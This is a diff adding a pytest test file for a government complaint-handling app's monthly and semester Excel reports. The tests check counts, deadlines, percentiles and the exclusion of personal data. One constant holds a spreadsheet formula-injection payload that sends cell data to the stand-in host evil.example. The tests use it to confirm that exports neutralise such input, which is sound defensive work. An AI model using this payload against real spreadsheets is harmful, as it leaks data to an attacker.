@@ -1,0 +1,313 @@
+"""The monthly and semester pengaduan reports: the numbers in the workbook are the numbers in the DB."""
+
+from __future__ import annotations
+
+import io
+from datetime import date, datetime
+from zoneinfo import ZoneInfo
+
+import pytest
+import sqlalchemy as sa
+from openpyxl import load_workbook
+
+from tests.factories import make_user
+from zi_public.exports import REPORTS, UnknownReport, WrongPeriodKind, build_report, report_filename
+from zi_public.exports.pengaduan_monev import TEXT_MAX, percentile, save_monev
+from zi_public.models import AuditEntry, Bidang, Pengaduan, PengaduanMonev, Role
+from zi_public.rules.pengaduan import Action, Channel, Status
+from zi_public.rules.periods import parse_period
+from zi_public.services.pengaduan import PengaduanInput, file_pengaduan
+from zi_public.services.pengaduan_flow import ActionInput, act
+from zi_public.services.pengaduan_inbox import InboxFilter, inbox_query
+from zi_public.services.pengaduan_stats import statistik, year_period
+from zi_public.services.reference import seed_reference_data
+
+JAKARTA = ZoneInfo("Asia/Jakarta")
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
+NOVEMBER_TODAY = date(2026, 11, 30)
+SEMESTER_TODAY = date(2026, 12, 2)
+
+
+def wib(month: int, day: int, hour: int = 10, minute: int = 0) -> datetime:
+    return datetime(2026, month, day, hour, minute, tzinfo=JAKARTA)
+
+
+def _file(when: datetime, category: str, channel: Channel = Channel.WEB, **fields) -> Pengaduan:
+    values = {
+        "category": category,
+        "layanan": "pbg",
+        "title": "Layanan lambat",
+        "description": "Berkas lengkap, belum ada kabar.",
+        "identity": "terbuka",
+        "name": "Budi Santoso",
+        "email": "budi@example.id",
+        "phone": "081234567890",
+        "nik": "3371010101010001",
+    }
+    values.update(fields)
+    return file_pengaduan(PengaduanInput(**values), channel=channel, now=when).pengaduan
+
+
+def file_scenario(db) -> dict[str, Pengaduan]:
+    """Nine complaints from July to December 2026 at fixed times, moved through the flow.
+
+    Working days (2026): Mon 17 Aug and Tue 25 Aug are holidays; July, October, November and early
+    December have none. Expected figures are worked out by hand in the tests below.
+    """
+    seed_reference_data()
+    team = make_user(role=Role.PENGADUAN)
+    bidang = db.session.scalar(sa.select(Bidang).where(Bidang.code == "perizinan-b"))
+    cases: dict[str, Pengaduan] = {}
+
+    g = cases["G"] = _file(wib(7, 15), "waktu")  # Wed
+    act(team, g, Action.VERIFY, ActionInput(), now=wib(7, 15, 14))
+    act(team, g, Action.DISPOSE, ActionInput(body="Cek berkas", bidang_id=bidang.id), now=wib(7, 16))
+    act(team, g, Action.ANSWER, ActionInput(body="Sudah terbit."), now=wib(7, 16, 15))
+    act(team, g, Action.FINISH, ActionInput(), now=wib(7, 20))  # Mon
+    act("reporter", g, Action.RATE, ActionInput(rating=2), now=wib(7, 21))
+
+    h = cases["H"] = _file(wib(8, 14), "sarana")  # Fri; verify_by skips the 17 August holiday
+    act(team, h, Action.VERIFY, ActionInput(), now=wib(8, 20))
+
+    f = cases["F"] = _file(wib(10, 31), "informasi")  # Sat
+    act(team, f, Action.VERIFY, ActionInput(), now=wib(11, 2))
+
+    a = cases["A"] = _file(wib(11, 2), "waktu", title=HOSTILE_TITLE)  # Mon
+    act(team, a, Action.VERIFY, ActionInput(), now=wib(11, 4))
+    act(team, a, Action.DISPOSE, ActionInput(body="Mohon dicek", bidang_id=bidang.id), now=wib(11, 5))
+    act(team, a, Action.FOLLOW_UP, ActionInput(body="Koordinasi dengan bidang"), now=wib(11, 6))
+    act(team, a, Action.ANSWER, ActionInput(body="@PBG terbit minggu ini."), now=wib(11, 9))
+    act(team, a, Action.FINISH, ActionInput(), now=wib(11, 10))
+    act("reporter", a, Action.RATE, ActionInput(rating=4), now=wib(11, 11))
+
+    i = cases["I"] = _file(wib(11, 2, 11), "prosedur")
+    act(team, i, Action.FORWARD, ActionInput(forwarded_to="BPN Kota Magelang"), now=wib(11, 6))  # late
+
+    b = cases["B"] = _file(wib(11, 3), "biaya", Channel.KIOSK, identity="anonim")
+    act(team, b, Action.VERIFY, ActionInput(), now=wib(11, 9))  # late: due Fri 6 Nov
+
+    c = cases["C"] = _file(wib(11, 10), "waktu", Channel.API, identity="rahasia")
+    act(team, c, Action.REJECT, ActionInput(body="Bukan kewenangan kami"), now=wib(11, 11))
+
+    cases["D"] = _file(wib(11, 30, 23, 30), "lainnya")  # still 30 November in Jakarta
+    cases["E"] = _file(wib(12, 1, 0, 30), "lainnya")  # already December
+    db.session.commit()
+    return cases
+
+
+@pytest.fixture
+def scenario(db):
+    return file_scenario(db)
+
+
+def workbook(content: bytes):
+    return load_workbook(io.BytesIO(content))
+
+
+def rows_of(ws) -> list[tuple[object, ...]]:
+    return list(ws.iter_rows(min_row=2, values_only=True))
+
+
+def test_the_monthly_report_lists_the_months_complaints_with_their_clocks(db, scenario):
+    export = build_report("pengaduan-bulanan", parse_period("2026-11"), today=NOVEMBER_TODAY)
+    wb = workbook(export.content)
+    assert wb.sheetnames == ["Pengaduan November 2026", "Rekap"]
+    ws = wb["Pengaduan November 2026"]
+    assert ws.freeze_panes == "A2" and ws.column_dimensions["H"].width == 40
+    header = [c.value for c in ws[1]]
+    rows = {row[1]: dict(zip(header, row, strict=True)) for row in rows_of(ws)}
+    numbers = [scenario[k].number for k in "AIBCD"]
+    assert list(rows) == numbers and export.rows == 5  # received order; E (1 Dec) and F (31 Oct) left out
+
+    a = rows[scenario["A"].number]
+    assert a["Diterima"] == datetime(2026, 11, 2, 10, 0) and ws["C2"].is_date
+    assert (a["Kanal"], a["Kategori"], a["Identitas pelapor"], a["Status"]) == (
+        "Web",
+        "Waktu penyelesaian",
+        "Terbuka",
+        "Selesai",
+    )
+    assert a["Layanan"] == "Persetujuan Bangunan Gedung (PBG)"
+    assert a["Bidang"] == "Bidang Pelayanan Perizinan dan Non Perizinan B"
+    assert a["Judul"] == "'" + HOSTILE_TITLE and ws["H2"].data_type == "s"
+    assert a["Diverifikasi/ditelaah"] == datetime(2026, 11, 4) and a["Batas verifikasi"] == datetime(2026, 11, 5)
+    assert a["Ditindaklanjuti"] == datetime(2026, 11, 5) and a["Selesai"] == datetime(2026, 11, 10)
+    assert (a["Verifikasi tepat waktu"], a["Tindak lanjut tepat waktu"], a["Penyelesaian tepat waktu"]) == (
+        "Ya",
+        "Ya",
+        "Ya",
+    )
+    assert a["Tindak lanjut (internal)"] == "06/11/2026: Koordinasi dengan bidang"
+    assert a["Tanggapan kepada pelapor"] == "09/11/2026: @PBG terbit minggu ini."
+    assert a["Penilaian (1-4)"] == 4 and a["Ditutup"] is None
+
+    i, b, c, d = (rows[scenario[k].number] for k in "IBCD")
+    assert (i["Verifikasi tepat waktu"], i["Tindak lanjut tepat waktu"], i["Penyelesaian tepat waktu"]) == (
+        "Tidak",
+        None,
+        "Ya",
+    )
+    assert i["Status"] == "Dialihkan" and i["Keterangan"] == "Dialihkan ke BPN Kota Magelang"
+    # B: verified late, follow-up overdue on 30 Nov (due 16 Nov), settle clock still running.
+    assert (b["Verifikasi tepat waktu"], b["Tindak lanjut tepat waktu"], b["Penyelesaian tepat waktu"]) == (
+        "Tidak",
+        "Tidak",
+        "Berjalan",
+    )
+    assert b["Kanal"] == "Kios" and b["Identitas pelapor"] == "Anonim"
+    assert c["Keterangan"] == "Ditolak: Bukan kewenangan kami" and c["Identitas pelapor"] == "Rahasia"
+    assert d["Diterima"] == datetime(2026, 11, 30, 23, 30) and d["Verifikasi tepat waktu"] == "Berjalan"
+
+
+def test_the_monthly_report_holds_no_personal_data(db, scenario):
+    content = build_report("pengaduan-bulanan", parse_period("2026-11"), today=NOVEMBER_TODAY).content
+    wb = workbook(content)
+    text = " ".join(str(v) for ws in wb for row in ws.iter_rows(values_only=True) for v in row if v is not None)
+    for personal in ("Budi", "budi@example.id", "081234567890", "3371010101010001"):
+        assert personal not in text
+
+
+def test_the_recap_counts_equal_the_inbox(db, scenario):
+    export = build_report("pengaduan-bulanan", parse_period("2026-11"), today=NOVEMBER_TODAY)
+    ws = workbook(export.content)["Rekap"]
+    header = [c.value for c in ws[1]]
+    assert header == [
+        "Kategori (status per 30/11/2026)",
+        "Baru",
+        "Terverifikasi",
+        "Ditindaklanjuti",
+        "Selesai",
+        "Ditolak",
+        "Dialihkan",
+        "Jumlah",
+    ]
+    recap = {row[0]: row[1:] for row in rows_of(ws)}
+    assert recap["Waktu penyelesaian"] == (0, 0, 0, 1, 1, 0, 2)
+    assert recap["Biaya atau tarif"] == (0, 1, 0, 0, 0, 0, 1)
+    assert recap["Sistem, mekanisme dan prosedur"] == (0, 0, 0, 0, 0, 1, 1)
+    assert recap["Lainnya"] == (1, 0, 0, 0, 0, 0, 1)
+    assert recap["Pungutan liar atau calo"] == (0,) * 7  # every active category is listed
+    assert list(recap)[-1] == "Jumlah" and recap["Jumlah"] == (1, 1, 0, 1, 1, 1, 5)
+
+    def inbox_count(**filters) -> int:
+        stmt = inbox_query(InboxFilter(month=date(2026, 11, 1), **filters), NOVEMBER_TODAY)
+        return db.session.scalar(sa.select(sa.func.count()).select_from(stmt.subquery()))
+
+    assert recap["Jumlah"][-1] == inbox_count() == export.rows
+    for position, status in enumerate(Status):
+        assert recap["Jumlah"][position] == inbox_count(status=status), status
+
+
+def test_an_empty_month_gives_headers_and_zero_totals(db):
+    seed_reference_data()
+    export = build_report("pengaduan-bulanan", parse_period("2024-02"), today=NOVEMBER_TODAY)
+    wb = workbook(export.content)
+    assert export.rows == 0 and wb["Pengaduan Februari 2024"].max_row == 1
+    assert rows_of(wb["Rekap"])[-1] == ("Jumlah", 0, 0, 0, 0, 0, 0, 0)
+
+
+def test_the_semester_monev_figures(db, scenario):
+    export = build_report("pengaduan-monev", parse_period("2026-S2"), today=SEMESTER_TODAY)
+    wb = workbook(export.content)
+    assert wb.sheetnames == [
+        "Volume per bulan",
+        "Waktu penanganan",
+        "Penilaian",
+        "Belum selesai",
+        "Evaluasi dan rekomendasi",
+    ]
+    assert export.rows == 9
+    volume = {row[0]: row[1:] for row in rows_of(wb["Volume per bulan"])}
+    # received, handled to the end, selesai, ditolak, dialihkan, still open, on time, share on time
+    assert volume["Juli 2026"] == (1, 1, 1, 0, 0, 0, 1, 1.0)
+    assert volume["Agustus 2026"] == (1, 0, 0, 0, 0, 1, 0, None)
+    assert volume["September 2026"] == (0, 0, 0, 0, 0, 0, 0, None)
+    assert volume["Oktober 2026"] == (1, 0, 0, 0, 0, 1, 0, None)
+    assert volume["November 2026"][:7] == (5, 3, 1, 1, 1, 2, 2)
+    assert volume["November 2026"][7] == pytest.approx(2 / 3)
+    assert volume["Desember 2026"] == (1, 0, 0, 0, 0, 1, 0, None)
+    assert volume["Jumlah Semester II 2026"] == (9, 4, 2, 1, 1, 5, 3, 0.75)
+    assert wb["Volume per bulan"]["I2"].number_format == "0.0%"
+
+    durations = {row[0]: row[1:] for row in rows_of(wb["Waktu penanganan"])}
+    # verify: G 0, F 1, C 1, A 2, H 3 (17 Aug is a holiday), B 4, I 4
+    assert durations["Diterima sampai diverifikasi/ditelaah"] == (7, 2, 4)
+    assert durations["Diverifikasi sampai ditindaklanjuti"] == (2, 1, 1)  # G 1, A 1
+    # finish: C 1, G 3, I 4, A 6 -> median 3.5, p90 4 + 0.7 * 2
+    count, median, p90 = durations["Diterima sampai selesai ditangani"]
+    assert (count, median) == (4, 3.5) and p90 == pytest.approx(5.4)
+
+    ratings = dict(rows_of(wb["Penilaian"]))
+    assert ratings["Jumlah penilaian"] == 2 and ratings["Rata-rata (1-4)"] == 3
+    assert [ratings[f"Nilai {n}"] for n in ("1 (tidak puas)", "2 (kurang puas)", "3 (puas)", "4 (sangat puas)")] == [
+        0,
+        1,
+        0,
+        1,
+    ]
+
+    open_rows = rows_of(wb["Belum selesai"])
+    assert [row[0] for row in open_rows] == [scenario[k].number for k in "HFBDE"]
+    late = {row[0]: (row[8], row[9]) for row in open_rows}
+    assert late[scenario["H"].number] == ("Ya", "tindak lanjut, penyelesaian")  # settle due 13 Oct
+    assert late[scenario["F"].number] == ("Ya", "tindak lanjut")
+    assert late[scenario["B"].number] == ("Ya", "tindak lanjut")
+    assert late[scenario["D"].number] == ("Tidak", None)  # verify due 3 Dec
+    assert late[scenario["E"].number] == ("Tidak", None)
+
+    evaluation = dict(rows_of(wb["Evaluasi dan rekomendasi"]))
+    assert evaluation["Periode"] == "Semester II 2026" and evaluation["Evaluasi"] == "(belum diisi)"
+
+
+def test_the_monev_agrees_with_the_public_statistics_page(db, scenario):
+    wb = workbook(build_report("pengaduan-monev", parse_period("2026-S2"), today=SEMESTER_TODAY).content)
+    total = rows_of(wb["Volume per bulan"])[-1]
+    stats = statistik(year_period(2026)).total  # nothing was received in the first semester
+    assert (total[1], total[2], total[7]) == (stats.received, stats.finished, stats.finished_on_time)
+    durations = {row[0]: row for row in rows_of(wb["Waktu penanganan"])}
+    assert durations["Diterima sampai diverifikasi/ditelaah"][2] == stats.median_verify_days
+    assert durations["Diterima sampai selesai ditangani"][2] == stats.median_finish_days
+
+
+def test_the_monev_text_is_saved_audited_and_exported(db, scenario):
+    team = make_user(role=Role.PENGADUAN, username="penulis")
+    period = parse_period("2026-S2")
+    save_monev(team, period, "  =Evaluasi: respons verifikasi lambat.  ", "Tambah petugas piket.")
+    save_monev(team, period, "Evaluasi kedua.", "Rekomendasi kedua.")
+    db.session.commit()
+    monev = db.session.get(PengaduanMonev, "2026-S2")
+    assert (monev.evaluation, monev.updated_by_id) == ("Evaluasi kedua.", team.id)
+    entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "pengaduan.monev_update")).all()
+    assert [(e.actor, e.target_id) for e in entries] == [("penulis", "2026-S2")] * 2
+    save_monev(team, period, "=1+1 evaluasi", "Rekomendasi kedua.")
+    evaluation = dict(rows_of(workbook(build_report("pengaduan-monev", period).content)["Evaluasi dan rekomendasi"]))
+    assert evaluation["Evaluasi"] == "'=1+1 evaluasi" and evaluation["Rekomendasi"] == "Rekomendasi kedua."
+    assert isinstance(evaluation["Terakhir diperbarui"], datetime)
+
+
+def test_the_monev_text_is_bounded_and_belongs_to_a_semester(db):
+    team = make_user(role=Role.PENGADUAN)
+    with pytest.raises(ValueError):
+        save_monev(team, parse_period("2026-S2"), "x" * (TEXT_MAX + 1), "")
+    with pytest.raises(ValueError):
+        save_monev(team, parse_period("2026-11"), "teks", "")
+    assert db.session.get(PengaduanMonev, "2026-S2") is None
+
+
+def test_the_registry_refuses_unknown_names_and_wrong_period_kinds(db):
+    assert set(REPORTS) == {"pengaduan-bulanan", "pengaduan-monev"}
+    with pytest.raises(UnknownReport):
+        build_report("pengaduan-harian", parse_period("2026-11"))
+    with pytest.raises(WrongPeriodKind):
+        build_report("pengaduan-bulanan", parse_period("2026-S2"))
+    with pytest.raises(WrongPeriodKind):
+        build_report("pengaduan-monev", parse_period("2026-11"))
+    assert report_filename("pengaduan-bulanan", parse_period("2026-11")) == "pengaduan-bulanan-2026-11.xlsx"
+
+
+@pytest.mark.parametrize(
+    ("values", "q", "expected"),
+    [([], 0.5, None), ([5], 0.9, 5), ([1, 2], 0.5, 1.5), ([4, 1, 3, 2], 0.5, 2.5), ([0, 10], 0.9, 9.0)],
+)
+def test_percentile_interpolates_like_excel(values, q, expected):
+    assert percentile(values, q) == expected
